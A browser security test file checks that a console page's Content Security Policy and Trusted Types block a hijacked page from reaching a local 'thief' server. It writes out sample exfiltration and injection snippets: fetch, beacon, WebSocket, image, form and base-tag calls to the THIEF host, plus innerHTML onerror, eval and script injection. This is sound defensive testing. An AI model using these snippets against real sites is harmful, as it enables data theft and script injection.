/** What a page that was taken over can do at the console’s origin, in a real browser: each way out that it tries is shut. */
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { FILES, SCRIPT, startTestConsole, type TestConsole } from '../console-server/testing.ts'

const CHROMIUM = process.env.ISTMO_CHROMIUM ?? '/usr/bin/chromium'

/** A server that answers everything to everybody, and remembers who asked. */
interface Open {
  readonly origin: string
  readonly asked: string[]
  readonly server: Server
}

async function startOpen(): Promise<Open> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
    if (request.url === '/frame') {
      response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${tested.origin}/console/"></iframe>`)
    } else response.writeHead(200, { ...headers, 'content-type': 'text/javascript' }).end('window.stolen = true')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server }
}

let gateway: Open
let thief: Open
let tested: TestConsole
let browser: Browser
/** A page of the console, which the thief has taken over. */
let page: Page
beforeAll(async () => {
  gateway = await startOpen()
  thief = await startOpen()
  tested = await startTestConsole({ gateway: gateway.origin }, { ...FILES, [SCRIPT]: "document.title = 'listo'" })
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] })
  page = await browser.newPage()
  await page.goto(`${tested.origin}/console/`)
  await page.waitForFunction("document.title === 'listo'")
})
afterAll(async () => {
  await browser?.close()
  await tested.remove()
  for (const { server } of [gateway, thief]) server.close()
})

/**
 * Runs a script of the thief's in the page, and returns what it could not do: the directives that stopped it. The browser reports them a moment later: those
 * that are expected are awaited, and others have a moment too.
 */
async function tryIt(script: string, expected: readonly string[] = []): Promise<readonly string[]> {
  const code = script.replaceAll('THIEF', thief.origin).replaceAll('GATEWAY', gateway.origin)
  return page.evaluate(`(async () => {
    const violated = []
    document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
    const wait = () => new Promise((resolve) => setTimeout(resolve, 100))
    try { await (async () => { ${code} })() } catch (error) { violated.push(error.name) }
    const isToCome = () => ${JSON.stringify(expected)}.some((directive) => !violated.includes(directive))
    for (let turns = 0; turns < 200 && isToCome(); turns++) await wait()
    await wait()
    return [...new Set(violated)]
  })()`)
}

describe('a page of the console', () => {
  it('runs its own script, and reaches the gateway', async () => {
    expect(await tryIt(`await fetch('GATEWAY/graphql'); await fetch('/console/config.json')`)).toEqual([])
    expect(gateway.asked).toEqual(['GET /graphql'])
  })

  it.each<[string, string, readonly string[]]>([
    ['fetch elsewhere', `await fetch('THIEF/x')`, ['connect-src', 'TypeError']],
    ['send a beacon', `navigator.sendBeacon('THIEF/x', 'token')`, ['connect-src']],
    ['open a socket', `new WebSocket('THIEF/x'.replace('http', 'ws'))`, ['connect-src']],
    ['load an image', `const i = new Image(); i.src = 'THIEF/x?token'; document.body.append(i)`, ['img-src']],
    [
      'load a style',
      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'THIEF/x'; document.head.append(l)`,
      ['style-src-elem'],
    ],
    [
      'write a style',
      `const s = document.createElement('style'); s.textContent = 'body{color:red}'; document.head.append(s)`,
      ['style-src-elem'],
    ],
    [
      'load a script',
      `const s = document.createElement('script'); s.src = 'THIEF/x'; document.head.append(s)`,
      ['TypeError'],
    ],
    [
      'write a script',
      `const s = document.createElement('script'); s.textContent = 'stolen = 1'; document.head.append(s)`,
      ['TypeError'],
    ],
    ['write HTML', `document.body.innerHTML = '<img src=x onerror=stolen=1>'`, ['TypeError']],
    [
      'write HTML by a parser',
      `document.body.append(document.createRange().createContextualFragment('<b onclick=1>x</b>'))`,
      ['TypeError'],
    ],
    ['make a policy for HTML', `trustedTypes.createPolicy('thief', { createHTML: (text) => text })`, ['TypeError']],
    [
      'evaluate a text',
      `await new Promise((resolve) => setTimeout(() => {
        try { (0, eval)('window.stolen = 1') } catch (error) { violated.push(error.name) }
        resolve()
      }))`,
      ['EvalError'],
    ],
    [
      'set an attribute that runs',
      `document.body.setAttribute('onclick', 'stolen = 1'); document.body.click()`,
      ['TypeError'],
    ],
    [
      'frame a page',
      `const f = document.createElement('iframe'); f.src = 'THIEF/frame'; document.body.append(f)`,
      ['frame-src'],
    ],
    [
      'send a form',
      `const f = document.createElement('form'); f.action = 'THIEF/x'; document.body.append(f); f.submit()`,
      ['form-action'],
    ],
    [
      'change the base',
      `const b = document.createElement('base'); b.href = 'THIEF/'; document.head.append(b)`,
      ['base-uri'],
    ],
  ])('cannot %s', async (_, script, expected) => {
    const stopped = await tryIt(script, expected)
    expect(stopped).toEqual(expect.arrayContaining([...expected]))
    expect(thief.asked).toEqual([])
    expect(await page.evaluate("'stolen' in window")).toBe(false)
  })

  it('cannot be framed, and cannot be loaded as a script by another site', async () => {
    const other = await browser.newPage()
    await other.goto(`${thief.origin}/frame`)
    await other.waitForTimeout(200)
    const framed = other.frames().find((frame) => frame !== other.mainFrame())
    expect(framed?.url() ?? '').not.toContain('/console/')
    const isBlocked = await other.evaluate(`new Promise((resolve) => {
      const script = document.createElement('script')
      script.src = '${tested.origin}/console/${SCRIPT}'
      script.onerror = () => resolve(true)
      script.onload = () => resolve(false)
      document.head.append(script)
    })`)
    expect(isBlocked).toBe(true)
    await other.close()
  })

  it('keeps no window that another site opened', async () => {
    const other = await browser.newPage()
    await other.goto(`${thief.origin}/x`)
    const [popup] = await Promise.all([
      other.waitForEvent('popup'),
      other.evaluate(`window.opened = window.open('${tested.origin}/console/')`),
    ])
    // A function that waits within the page is a text that runs, which the page's policy forbids as soon as it holds.
    await expect.poll(() => popup.title()).toBe('listo')
    expect(await popup.evaluate('window.opener === null')).toBe(true)
    // The browser tells the window that opened it a moment later.
    await expect.poll(() => other.evaluate('window.opened.closed')).toBe(true)
    await popup.close()
    await other.close()
  })
})
